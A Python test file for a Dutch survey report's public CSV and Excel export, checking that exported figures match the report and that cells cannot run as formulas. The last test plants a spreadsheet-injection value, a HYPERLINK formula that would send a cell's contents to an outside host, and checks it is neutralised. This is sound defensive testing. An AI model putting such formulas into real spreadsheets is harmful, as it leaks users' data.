"""The public export is the report's own figures: every number in it appears in the report,
nothing the report hides, labels instead of codes, real numbers, cells safe for a spreadsheet."""

import csv
import re
from pathlib import Path

from openpyxl import load_workbook

from report.document import build_document
from report.exports import export
from report.markdown import render_markdown
from report.public import COLUMNS, PublicRow, public_rows, write_public_csv, write_public_xlsx
from report.section import InputSection
from tests.report.conftest import Seeded

FORMULA = '=HYPERLINK("http://example.org/?"&A2,"Team Noord")'


def _report_lines(section: InputSection, seeded: Seeded) -> list[str]:
    md = render_markdown(build_document(section, seeded.catalog))
    return re.sub(r"\\(.)", r"\1", md).replace("\u00a0", " ").splitlines()


def _shown(value: float) -> str:
    return f"{value:.1f}".replace(".", ",")


def _line(lines: list[str], *needed: str) -> bool:
    return any(all(n in line for n in needed) for line in lines)


def _in_report(row: PublicRow, lines: list[str]) -> bool:
    """The report shows the row's numbers the way it writes them: an option's count and
    percentage in its table row, a question's n in its heading, a location's percentage and n
    in its row, the previous round's n in its sentence, a mean in words."""
    pct = [f"{row.percent}%"] if row.percent is not None else []
    if row.question == "Deelname":
        figures = [str(row.count)] if row.count is not None else []
        return _line(lines, f"| {row.group} |", *figures, *pct)
    if row.part == "bijdragen":
        label = row.answer.removesuffix(": contacten")
        if label == "bijdragen":
            return _line(lines, "meldden", str(row.count), *([str(row.n)] if row.n else []))
        if label == "contacten":
            return _line(lines, "| Totaal |", f"| {row.count} |")
        if row.answer.endswith(": contacten"):  # the table's last column
            return any(
                line.startswith(f"| {label} |") and line.endswith(f"| {row.count} |")
                for line in lines
            )
        return _line(lines, f"| {label} | {row.count} |")
    if row.part == "per locatie":
        return _line(lines, f"| {row.location} |", *pct, f"| {row.n} |")
    if row.value is not None:  # a mean or median
        word = "Gemiddeld" if row.answer == "gemiddelde" else "mediaan"
        if row.part.startswith("vorige ronde"):
            word = "gemiddeld"
        return _line(lines, f"{word} {_shown(row.value)}")
    if row.part.startswith("vorige ronde"):
        return _line(lines, f"| {row.answer} |", *pct) and _line(
            lines, "Vorige ronde", f"(n = {row.n})"
        )
    # '(n = 14)', or '(n = 14; meer antwoorden per persoon mogelijk)'
    return _line(lines, f"| {row.answer} | {row.count} | {row.percent}% |") and (
        _line(lines, row.question, f"(n = {row.n})") or _line(lines, row.question, f"(n = {row.n};")
    )


async def test_every_number_of_the_export_is_in_the_report(seeded: Seeded) -> None:
    section = await seeded.section()
    lines = _report_lines(section, seeded)
    rows = list(public_rows(section))
    with_numbers = [
        r for r in rows if any(v is not None for v in (r.count, r.n, r.percent, r.value))
    ]
    assert len(with_numbers) > 30
    missing = [r for r in with_numbers if not _in_report(r, lines)]
    assert missing == []
    hidden = [r for r in rows if r.note and r.n is None and r.count is None]
    assert hidden and all(r.percent is None and r.value is None for r in hidden)
    # The peer experts' log per question (each answer a contribution) is not a row: the report
    # shows it only as the contributions table, counted in peer experts.
    log_texts = {
        q.text.nl for q in seeded.catalog.questionnaires["ervaringsdeskundige_bijdrage"].questions
    }
    assert not log_texts & {r.question for r in rows}
    # Labels, not codes.
    codes = {q.id for qn in seeded.catalog.questionnaires.values() for q in qn.questions}
    codes |= {"client", "naaste", "partner", "professional", "ervaringsdeskundige"}
    assert not codes & {cell for r in rows for cell in r.cells() if isinstance(cell, str)}
    assert {r.group for r in rows} >= {"Cliënten", "Naasten", "Ervaringsdeskundigen"}


async def test_xlsx_has_real_numbers_and_csv_reads_in_dutch_excel(
    seeded: Seeded, tmp_path: Path
) -> None:
    section = await seeded.section()
    write_public_xlsx(section, tmp_path / "p.xlsx")
    sheet = load_workbook(tmp_path / "p.xlsx")["Cijfers"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert tuple(header) == COLUMNS
    values = [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    numbers = [
        v[c] for v in values for c in ("aantal", "n", "procent", "waarde") if v[c] is not None
    ]
    assert numbers and all(isinstance(n, int | float) for n in numbers)
    mean = next(
        v for v in values if v["antwoord"] == "gemiddelde" and v["onderdeel"] == "deze ronde"
    )
    write_public_csv(section, tmp_path / "p.csv")
    with (tmp_path / "p.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    mean_csv = next(
        r for r in rows if r["antwoord"] == "gemiddelde" and r["onderdeel"] == "deze ronde"
    )
    assert mean_csv["waarde"] == _shown(mean["waarde"]) and "," in mean_csv["waarde"]
    assert all(re.fullmatch(r"\d*", r["aantal"] or "") for r in rows if r["aantal"] is not None)


async def test_no_cell_runs_as_a_formula(seeded: Seeded, tmp_path: Path) -> None:
    store = seeded.store
    places = {p.name: p.id for p in await store.list_locations()}
    await store.rename_location(places["Zonnehof"], FORMULA)
    await store.rename_location(places["De Linde"], "+31 lijn\tnaar buiten")
    section = await seeded.section()
    written = await export(
        store,
        seeded.catalog,
        seeded.current,
        ("csv", "xlsx"),
        tmp_path / "pub",
        "kim",
        kind="public",
        section=section,
    )
    written += await export(
        store, seeded.catalog, seeded.current, ("csv", "xlsx"), tmp_path / "res", "kim"
    )
    for path in written:
        if path.suffix == ".xlsx":
            book = load_workbook(path)
            cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
            assert not [c.value for c in cells if c.data_type == "f"]
            texts = [c.value for c in cells if isinstance(c.value, str)]
        else:
            with path.open(encoding="utf-8-sig") as handle:
                texts = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
        assert "'" + FORMULA in texts, path.name
        assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
